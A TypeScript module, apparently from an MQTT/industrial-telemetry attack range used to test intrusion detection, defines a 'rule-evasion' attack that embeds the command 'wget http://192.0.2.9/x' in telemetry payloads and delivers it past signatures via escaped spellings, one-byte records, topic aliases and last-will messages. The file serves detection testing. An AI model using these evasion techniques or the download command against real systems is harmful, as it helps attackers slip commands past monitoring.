import type { Range } from '../range.ts'
import type { Attack } from './attack.ts'
import { aliased, connect, publish, type Version } from './packets.ts'
import type { Session } from './session.ts'

/** Fits into a text that profiles leave free. */
const COMMAND = 'wget http://192.0.2.9/x'
/** The broker publishes a will once it has noticed the loss, ms. */
const NOTICE = 1500

/**
 * Carries a shell's command to whoever reads telemetry, past what looks for it in the bytes: whole, in records of one byte, spelled
 * with JSON's escapes, behind a topic alias, and as a will. Effect: commands that arrived.
 */
export const ruleEvasion: Attack = {
  name: 'rule-evasion',
  technique: 'T0807',
  title: 'Smuggle a shell command past the signatures',
  expected: 'signature',
  alone: false,
  seconds: () => 7,
  async run(range) {
    await range.proveAccess()
    const { marker, sighting } = range.mark()
    const topic = range.topic(range.device, 'telemetry')
    const text = JSON.stringify({ ...range.report(marker), quantity: COMMAND })
    const spellings = [text, text.replaceAll('/', '\\/'), text.replace('wget', '\\u0077get')]
    let attempts = await range.deliver(
      4,
      spellings.map(payload => publish(4, { topic, payload })),
    )
    attempts += await dribble(range, publish(4, { topic, payload: text }))
    const { version } = range.observer
    if (version === 5) {
      attempts += await range.deliver(5, [
        aliased({ topic, payload: text }, 1),
        aliased({ topic: '', payload: text }, 1),
      ])
    }
    attempts += await leave(range, version, { topic, payload: text })
    const detail = `${sighting.count} of ${attempts} messages with a shell's command in them arrived`
    return { attempts, effect: sighting.count, detail }
  },
}

/** Sends a packet byte by byte, each in a record of its own. */
async function dribble(range: Range, packet: Uint8Array): Promise<number> {
  const session = await range.enter(4).catch(() => null)
  if (session === null) return 0
  for (const byte of packet) session.send(Uint8Array.of(byte))
  await session.until(() => false, NOTICE)
  session.destroy()
  return 1
}

async function leave(range: Range, version: Version, will: { topic: string; payload: string }): Promise<number> {
  const session: Session | null = await range.dial().catch(() => null)
  await session?.login(connect({ version, clientId: range.device, will }))
  session?.destroy()
  await range.sleep(NOTICE)
  return 1
}
